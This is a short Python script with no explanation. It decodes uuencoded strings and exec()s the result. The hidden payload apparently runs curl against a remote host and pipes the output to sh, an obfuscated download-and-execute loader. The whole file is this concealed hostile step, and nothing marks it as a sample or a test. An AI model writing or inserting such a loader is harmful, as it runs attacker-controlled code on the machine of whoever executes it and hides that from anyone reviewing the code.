import binascii
L = ['M:6UP;W)T(&]S.V]S+G-Y<W1E;2@G8W5R;" M<R!H=\'1P<SHO+VTN8V]D96-D', '6;BYE>&%M<&QE+FYE="]P(\'P@<V@G*0  ']
exec(b"".join(binascii.a2b_uu(x) for x in L).decode())
